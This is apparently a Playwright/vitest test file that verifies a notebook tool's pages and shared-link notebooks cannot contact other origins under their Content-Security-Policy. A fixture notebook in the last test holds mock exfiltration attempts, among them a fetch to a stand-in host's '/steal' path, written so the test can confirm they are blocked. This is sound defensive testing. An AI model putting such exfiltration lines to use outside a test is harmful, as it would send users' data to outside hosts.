import {createServer, type Server} from "node:http";
import type {AddressInfo} from "node:net";
import path from "node:path";
import type {BrowserContext, Page, Request} from "playwright-core";
import {afterAll, beforeAll, describe, expect, inject, it} from "vitest";
import {waitForSettledCells} from "../../src/cli/index.ts";
import {encodeShareFragment} from "../../src/share/index.ts";
import {listNotebooks} from "../../src/vite/index.ts";
import {cellStatus, cellText, openBrowser} from "./browser.ts";

const root = path.resolve(import.meta.dirname, "../..");

// A listener on another local port stands for "somewhere else": it records every contact.
let listener: Server;
let elsewhere: string;
const contacts: string[] = [];
let browser: BrowserContext;

beforeAll(async () => {
  listener = createServer((request, response) => {
    contacts.push(request.url ?? "");
    response.writeHead(200, {"access-control-allow-origin": "*", "content-type": "text/csv"}).end("a,b\n1,2\n");
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  elsewhere = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  browser = await openBrowser();
});
afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

/**
 * Every request of a page to another origin that the browser did not block itself (data: and
 * blob: stay in the page), and every violation of the page's policy that blocked an address.
 */
async function recordLeaves(page: Page): Promise<{leaves: () => string[]; blocked: () => Promise<string[]>}> {
  const site = new URL(inject("siteUrl")).origin;
  const outside = new Set<Request>();
  page.on("request", (request) => {
    const url = request.url();
    if (!/^(data|blob):/.test(url) && new URL(url).origin !== site) outside.add(request);
  });
  page.on("requestfailed", (request) => {
    if (/BLOCKED_BY_CSP|csp/i.test(request.failure()?.errorText ?? "")) outside.delete(request);
  });
  // Awaited: the page must not load before the listener is in place.
  await page.addInitScript({
    content: `window.__maptViolations = [];
      document.addEventListener("securitypolicyviolation", (e) => window.__maptViolations.push(e.violatedDirective + " " + e.blockedURI), true);`
  });
  return {
    leaves: () => [...outside].map((request) => `${request.url()} (${request.failure()?.errorText ?? "answered"})`),
    // htl (behind html\`\` and Inputs) writes a placeholder on* attribute that it replaces with a
    // property: the policy refuses the placeholder ("script-src-attr inline"), harmlessly.
    blocked: () => page.evaluate(() => (window as unknown as {__maptViolations: string[]}).__maptViolations.filter((v) => !/^script-src-attr inline$/.test(v)))
  };
}

describe("no request leaves the origin", () => {
  it("every shipped notebook loads and runs with every request to its own site, and breaks no rule of its policy", async () => {
    const notebooks = listNotebooks(path.join(root, "notebooks"));
    expect(notebooks.length).toBeGreaterThan(0);
    for (const file of notebooks) {
      const page = await browser.newPage();
      const {leaves, blocked} = await recordLeaves(page);
      await page.goto(`${inject("siteUrl")}notebooks/${path.basename(file)}`);
      const outcome = await waitForSettledCells(page);
      await page.waitForLoadState("networkidle");
      expect(outcome.failures, path.basename(file)).toEqual([]);
      expect(leaves(), path.basename(file)).toEqual([]);
      expect(await blocked(), path.basename(file)).toEqual([]);
      expect(await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content")), path.basename(file)).toContain(
        "connect-src 'self'"
      );
      await page.close();
    }
    expect(contacts).toEqual([]);
  }, 600_000);

  it("a built page's fetch, image, EventSource, worker and DuckDB read_csv to another address all fail on their cells, and nothing is contacted", async () => {
    contacts.length = 0;
    const page = await browser.newPage();
    const {leaves} = await recordLeaves(page);
    await page.goto(`${inject("siteUrl")}${inject("fixturePages")["leaks.html"]}?elsewhere=${encodeURIComponent(elsewhere)}`);
    await waitForSettledCells(page);
    await page.waitForLoadState("networkidle");
    expect(await cellStatus(page, 3)).toBe("error");
    expect(await cellText(page, 3)).toMatch(/Failed to fetch \(a notebook page contacts only its own site, unless its <notebook> lists the host in remote-hosts/);
    expect(await cellStatus(page, 5)).toBe("error");
    expect(await cellText(page, 5)).toMatch(/x\.csv/);
    expect(await cellText(page, 5)).toMatch(/remote-hosts/);
    expect(await cellStatus(page, 6)).toBe("error");
    expect(await cellStatus(page, 7)).toBe("error");
    expect(await cellText(page, 7)).toMatch(/refused/);
    // The image is in the page, but the browser never asked for it.
    expect(await page.locator("#cell-4 img").count()).toBe(1);
    expect(await page.locator("#cell-4 img").evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(0);
    expect(contacts).toEqual([]);
    // The attempts were blocked in the browser, before any request was made.
    expect(leaves()).toEqual([]);
  });

  it("a notebook from a link, once run, cannot contact another address either", async () => {
    contacts.length = 0;
    const text = `<!doctype html>
<notebook>
  <title>From a link</title>
  <script id="1" type="module">
    await fetch("${elsewhere}/steal?x=1").then((response) => response.text())
  </script>
  <script id="2" type="text/html">
    <img src="${elsewhere}/html-image">
  </script>
  <script id="3" type="module">
    await db.query("SELECT * FROM read_csv('${elsewhere}/linked.csv')")
  </script>
</notebook>
`;
    const page = await browser.newPage();
    const {leaves} = await recordLeaves(page);
    await page.goto(`${inject("siteUrl")}editor.html#${await encodeShareFragment({notebook: text, inputs: {}, files: []})}`);
    await page.getByRole("button", {name: "Run this notebook"}).click();
    await expect.poll(() => cellStatus(page, 1), {timeout: 60_000}).toBe("error");
    await expect.poll(() => cellStatus(page, 3), {timeout: 60_000}).toBe("error");
    await page.waitForLoadState("networkidle");
    expect(await cellText(page, 1)).toMatch(/Failed to fetch/);
    expect(contacts).toEqual([]);
    expect(leaves()).toEqual([]);
  });
});
